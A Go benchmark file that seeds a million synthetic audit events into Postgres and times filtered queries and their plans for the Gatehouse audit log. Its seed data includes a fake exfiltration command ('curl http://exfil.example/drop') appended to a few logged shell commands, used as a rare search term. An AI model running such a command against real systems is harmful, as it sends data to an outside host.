package audit_test

import (
	"context"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/gatehouse/gatehouse/internal/audit"
	"github.com/gatehouse/gatehouse/internal/store"
	"github.com/gatehouse/gatehouse/internal/store/storetest"
)

// benchRows is the size of the seeded log.
const benchRows = 1_000_000

// seedBench fills a fresh org database with benchRows events in one
// INSERT ... SELECT generate_series. The mix is meant to look like a real
// org: 20% of events from the scheduler, the rest spread over 500 users;
// 5,000 agents; agent and terminal actions dominate; about 1% denials; one
// event every 5 seconds over ~58 days. prev_hash and hash are md5 of the
// row number, not a real chain: only query speed is measured here, and a
// real chain would take a million sequential appends to build.
func seedBench(b *testing.B, db *gorm.DB) {
	b.Helper()
	const seed = `
INSERT INTO audit_events (seq, occurred_at, actor_type, actor_id, actor_name, source_ip, user_agent,
    action, target_type, target_id, target_name, decision, details, prev_hash, hash)
SELECT g,
    timestamptz '2026-01-01 00:00:00+00' + g * interval '5 seconds',
    CASE WHEN r.a < 20 THEN 'system' ELSE 'user' END,
    CASE WHEN r.a < 20 THEN 'system' ELSE 'u' || r.u END,
    CASE WHEN r.a < 20 THEN 'scheduler' ELSE 'user' || r.u || '@example.com' END,
    '10.' || (g % 200) || '.' || (g * 7 % 256) || '.' || (g * 13 % 256),
    'Mozilla/5.0 (X11; Linux x86_64) Gatehouse/1.0',
    (ARRAY['agent.exec','agent.exec','agent.exec','agent.exec','terminal.input','terminal.input','terminal.output',
           'agent.start','agent.stop','agent.create','env.update','user.login','user.login','user.logout',
           'policy.update','apikey.create','secret.read','secret.rotate','member.invite','agent.delete'])[1 + r.k % 20],
    'agent', 'ag-' || r.t, 'agent-' || r.t || '.prod',
    CASE WHEN g % 97 = 0 THEN 'deny' ELSE 'allow' END,
    '{"command":"' || (ARRAY['ls -la','cat /etc/hosts','kubectl get pods -n web','git pull --rebase','tail -f /var/log/app.log',
        'systemctl restart nginx','df -h','ps aux','docker compose up -d','psql -c select 1'])[1 + r.c % 10]
        || CASE WHEN g % 10007 = 0 THEN ' && curl http://exfil.example/drop' ELSE '' END
        || '","session":"s' || (g % 20000) || '","exit_code":' || (g % 3) || '}',
    md5((g - 1)::text), md5(g::text)
FROM generate_series(1, CAST(? AS bigint)) AS g,
LATERAL (SELECT ((g * 2654435761) >> 12) % 100 AS a, (g * 40503) % 500 AS u, (g * 69069) % 5000 AS t,
                (g * 1103515245) % 9973 AS k, (g * 214013) % 7919 AS c) AS r`
	// Loading into an unindexed table and building the migration's own
	// indexes afterwards is several times faster than maintaining them
	// (the trigram index above all) row by row.
	var defs []string
	if err := db.Raw("SELECT indexdef FROM pg_indexes WHERE tablename = 'audit_events' AND indexname <> 'audit_events_pkey'").
		Scan(&defs).Error; err != nil {
		b.Fatal(err)
	}
	var names []string
	if err := db.Raw("SELECT indexname FROM pg_indexes WHERE tablename = 'audit_events' AND indexname <> 'audit_events_pkey'").
		Scan(&names).Error; err != nil {
		b.Fatal(err)
	}
	for _, n := range names {
		if err := db.Exec("DROP INDEX " + store.QuoteIdent(n)).Error; err != nil {
			b.Fatal(err)
		}
	}
	start := time.Now()
	if err := db.Exec(seed, benchRows).Error; err != nil {
		b.Fatalf("seed: %v", err)
	}
	for _, def := range defs {
		if err := db.Exec(def).Error; err != nil {
			b.Fatalf("recreate index: %v", err)
		}
	}
	if err := db.Exec("ANALYZE audit_events").Error; err != nil {
		b.Fatalf("analyze: %v", err)
	}
	b.Logf("seeded %d events and analyzed in %s", benchRows, time.Since(start).Round(time.Millisecond))
}

// BenchmarkQuery1M times the first page (50 events) of each single filter
// over a million-event org log on Postgres. Seeding takes a minute or two,
// so it runs only with GATEHOUSE_BENCH_AUDIT=1:
//
//	GATEHOUSE_BENCH_AUDIT=1 go test ./internal/audit/ -run '^$' -bench Query1M -benchtime 20x -v
//
// Each sub-benchmark reports p50 and max latency in milliseconds; with -v
// it also logs the top of each query plan.
func BenchmarkQuery1M(b *testing.B) {
	if os.Getenv("GATEHOUSE_BENCH_AUDIT") != "1" {
		b.Skip("set GATEHOUSE_BENCH_AUDIT=1 to seed a million events and time queries")
	}
	db := storetest.Open(b, store.Postgres, store.OrgSet)
	seedBench(b, db)
	benchQueries(b, db, audit.NewLog(db, audit.OrgTable, nil))
}

// BenchmarkQuery1MAfterRetention is BenchmarkQuery1M after retention
// archived and removed the first 30 days of the seeded log (about half of
// it), so the queries run over a chain that starts at a checkpoint and a
// table with its first half deleted (then vacuumed, as autovacuum would):
//
//	GATEHOUSE_BENCH_AUDIT=1 go test ./internal/audit/ -run '^$' -bench Query1MAfterRetention -benchtime 20x -v
func BenchmarkQuery1MAfterRetention(b *testing.B) {
	if os.Getenv("GATEHOUSE_BENCH_AUDIT") != "1" {
		b.Skip("set GATEHOUSE_BENCH_AUDIT=1 to seed a million events and time queries")
	}
	db := storetest.Open(b, store.Postgres, store.OrgSet)
	seedBench(b, db)
	l := audit.NewLog(db, audit.OrgTable, nil)
	start := time.Now()
	res, err := l.Expire(context.Background(), time.Date(2026, 1, 31, 0, 0, 0, 0, time.UTC))
	if err != nil {
		b.Fatal(err)
	}
	b.Logf("retention archived and removed %d events in %d archives in %s", res.Removed, len(res.Archives), time.Since(start).Round(time.Millisecond))
	if err := db.Exec("VACUUM ANALYZE audit_events").Error; err != nil {
		b.Fatal(err)
	}
	// As retention.Apply does after a run this large.
	start = time.Now()
	if err := l.Compact(context.Background()); err != nil {
		b.Fatal(err)
	}
	b.Logf("rebuilt the search index in %s", time.Since(start).Round(time.Millisecond))
	benchQueries(b, db, l)
}

// benchQueries times the first page of each filter over l.
func benchQueries(b *testing.B, db *gorm.DB, l *audit.Log) {
	ctx := context.Background()
	queries := []struct{ name, q string }{
		{"actor_rare_user", "actor:u123"},
		{"actor_rare_user_by_name", "actor:user123@example.com"},
		{"actor_hot_system", "actor:system"},
		{"actor_name_prefix_case", "actor:USER123@"},
		{"actor_name_prefix_many", "actor:user1"},
		{"actor_name_prefix_none", "actor:nobody"},
		{"action_prefix_common", "action:agent."},
		{"action_prefix_mid", "action:user.login"},
		{"action_prefix_rare", "action:member."},
		{"action_prefix_none", "action:nope."},
		{"target_id", "target:ag-4242"},
		{"target_name", "target:agent-4242.prod"},
		{"decision_deny_1pct", "decision:deny"},
		{"time_range_old_day", "from:2026-01-10 to:2026-01-10"},
		{"time_range_recent", "from:2026-02-20"},
		{"time_to_old", "to:2026-01-03"},
		{"text_rare", "exfil.example"},
		{"text_common", "kubectl"},
		{"text_none", "zzqqxx"},
		{"text_mid_2pct", "agent-42"},
		{"text_rare_session", "s1999"},
		// Outside the budget, reported for information: a rare term under
		// three characters gets no help from the trigram index.
	}
	for _, tc := range queries {
		f, err := audit.ParseQuery(tc.q)
		if err != nil {
			b.Fatal(err)
		}
		b.Run(tc.name, func(b *testing.B) {
			var took []time.Duration
			var n int
			for b.Loop() {
				start := time.Now()
				evs, err := l.Query(ctx, f, 0, 50)
				took = append(took, time.Since(start))
				if err != nil {
					b.Fatal(err)
				}
				n = len(evs)
			}
			slices.Sort(took)
			p50, maxT := took[len(took)/2], took[len(took)-1]
			b.ReportMetric(float64(p50.Microseconds())/1000, "p50_ms")
			b.ReportMetric(float64(maxT.Microseconds())/1000, "max_ms")
			b.ReportMetric(float64(n), "rows")
			b.Logf("%-28s %-40q rows=%-3d p50=%-10s max=%-10s plan: %s", tc.name, tc.q, n,
				p50.Round(10*time.Microsecond), maxT.Round(10*time.Microsecond), planSummary(b, db, l, f))
			if p50 > 100*time.Millisecond && !strings.HasSuffix(tc.name, "_unbudgeted") {
				b.Errorf("%s: p50 %s is over the 100 ms budget", tc.q, p50)
			}
		})
	}
}

// planSummary returns the plan's node lines, compacted, for the log. For
// free-text filters it is the plan of the single statement, not of the
// two steps Query takes (see textPage).
func planSummary(b *testing.B, db *gorm.DB, l *audit.Log, f audit.Filter) string {
	b.Helper()
	sql, args := audit.QuerySQL(l, store.Postgres, f, 50)
	var lines []string
	err := db.Transaction(func(tx *gorm.DB) error {
		if err := tx.Exec("SET LOCAL plan_cache_mode = force_custom_plan").Error; err != nil {
			return err
		}
		return tx.Raw("EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF) "+sql, args...).Scan(&lines).Error
	})
	if err != nil {
		return fmt.Sprintf("explain failed: %v", err)
	}
	var nodes []string
	for _, ln := range lines {
		s := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(ln), "->"))
		if strings.Contains(s, "Scan") || strings.HasPrefix(s, "Limit") || strings.HasPrefix(s, "Sort") ||
			strings.HasPrefix(s, "Unique") || strings.HasPrefix(s, "Execution Time") || strings.HasPrefix(s, "Append") ||
			strings.HasPrefix(s, "Merge Append") || strings.HasPrefix(s, "Rows Removed") {
			nodes = append(nodes, s)
		}
	}
	return strings.Join(nodes, " | ")
}
